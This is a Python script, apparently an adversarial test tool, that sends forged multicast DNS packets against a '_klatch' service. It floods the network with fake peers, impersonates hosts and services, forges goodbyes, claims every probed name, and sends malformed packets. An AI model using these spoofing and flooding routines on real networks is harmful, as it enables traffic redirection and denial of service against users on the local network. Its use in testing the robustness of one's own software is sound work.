"""Says what is not true, by multicast DNS: mallory.py ADDRESS WHAT [WORD...], the address being one of this computer.
With ADDRESS>VICTIM, only the victim hears it.

    flood COUNT             so many peers that do not exist
    texts COUNT             so many with a TXT record of 8,000 bytes that are no text
    addresses COUNT         so many addresses of hosts for which nobody has asked
    claim NAME PORT IP...   a peer of that name at these addresses, port 0 meaning that it is gone
    at HOST IP...           that a host has these addresses
    service NAME HOST PORT  that a peer is at this port of this host, port 0 meaning that it is gone
    goodbye NAME TIMES      that a peer has gone, twice a second
    taken NAME              that whatever begins with NAME is taken, whenever somebody asks for it; for ever
    nonsense COUNT          so many packets that are not DNS, or only nearly
"""
import ipaddress
import random
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
TYPE = b"\x07_klatch\x04_tcp\x05local\x00"
A, PTR, TXT, AAAA, SRV = 1, 12, 16, 28, 33
IN, FLUSH = 1, 0x8001
#: So that packets are read, and not only dropped by the system.
PAUSE = 0.0005


def record(name, kind, kind_class, data, ttl=4500):
    return name + struct.pack(">HHIH", kind, kind_class, ttl, len(data)) + data


def label(text):
    return bytes([len(text)]) + text


def dotted(host):
    """The host name `bob.local.` as a name of DNS."""
    return b"".join(label(part.encode()) for part in host.rstrip(".").split(".")) + b"\x00"


def place(host, ip):
    ip = ipaddress.ip_address(ip)
    return record(host, A if ip.version == 4 else AAAA, FLUSH, ip.packed)


def peer(name, port, *ips, text=b"\x0dstatus=online"):
    """The records of one: PTR, SRV, TXT and addresses; a list."""
    instance = label(name) + TYPE
    host = label(b"host-%x" % (hash(name) & 0xFFFFFFFF)) + b"\x05local\x00"
    return [record(TYPE, PTR, IN, instance), record(instance, SRV, FLUSH, struct.pack(">HHH", 0, 0, port) + host),
            record(instance, TXT, FLUSH, text)] + [place(host, ip) for ip in ips]


def response(records):
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def flood(count):
    for number in range(0, int(count), 5):
        peers = [peer(b"bogus peer number %d" % n, 4000, f"10.66.{n >> 8 & 255}.{n & 255}") for n in range(number, number + 5)]
        yield response(sum(peers, []))


def texts(count):
    for number in range(int(count)):
        text = b"".join(label(b"%d=" % n + random.randbytes(240)) for n in range(33))
        yield response(peer(b"large %d" % number, 4000, "10.66.0.1", text=text))


def addresses(count):
    for number in range(0, int(count), 30):
        yield response([place(label(b"unasked-%d" % n) + b"\x05local\x00", "10.66.0.1") for n in range(number, number + 30)])


def claim(name, port, *ips):
    yield response(peer(name.encode(), int(port), *ips))


def at(host, *ips):
    yield response([place(dotted(host), ip) for ip in ips])


def service_record(name, host, port):
    return [record(label(name) + TYPE, SRV, FLUSH, struct.pack(">HHH", 0, 0, port) + dotted(host))]


def service(name, host, port):
    yield response(service_record(name.encode(), host, int(port)))


def goodbye(name, times):
    for _ in range(int(times)):
        yield response([record(TYPE, PTR, IN, label(name.encode()) + TYPE, ttl=0)])
        time.sleep(0.5)


def taken(name):
    """Answers all probes, which are questions with what is to be announced in them."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(GROUP)
    # At the interface of the computer's only address.
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP[0]) + socket.inet_aton(sys.argv[1]))
    print("listening", flush=True)
    while True:
        packet = listener.recv(9000)
        begin = packet.find(name.encode())
        is_probe = packet[2] < 0x80 and packet[8:10] != b"\0\0" and begin > 0
        if is_probe:
            asked = packet[begin:begin + packet[begin - 1]]
            text = record(label(asked) + TYPE, TXT, FLUSH, b"\x00")
            yield response(service_record(asked, "mallory.local.", 4000) + [text])


def nonsense(count):
    """Bytes by chance; good packets that break off, or with some bytes changed; names that lead back to themselves."""
    chance = random.Random(1)
    good = response(peer(b"nonsense", 4000, "10.66.0.1"))
    for number in range(int(count)):
        kind = number % 5
        if kind == 0:
            yield chance.randbytes(chance.randrange(0, 1400))
        elif kind == 1:
            yield good[:chance.randrange(len(good))]
        elif kind == 2:
            changed = bytearray(good)
            for _ in range(3):
                changed[chance.randrange(len(changed))] = chance.randrange(256)
            yield bytes(changed)
        elif kind == 3:
            yield struct.pack(">HHHHHH", 0, 0x8400, 0, 65535, 65535, 65535) + b"\xc0\x0c" * chance.randrange(1, 600)
        else:
            yield good[:2] + struct.pack(">H", chance.randrange(65536)) + good[4:]


def main(address, what, *words):
    address, _, victim = address.partition(">")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.bind((address, 5353))
    lies = {function.__name__: function
            for function in (flood, texts, addresses, claim, at, service, goodbye, taken, nonsense)}
    for packet in lies[what](*words):
        sock.sendto(packet, (victim, GROUP[1]) if victim else GROUP)
        time.sleep(PAUSE)
    print("done", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
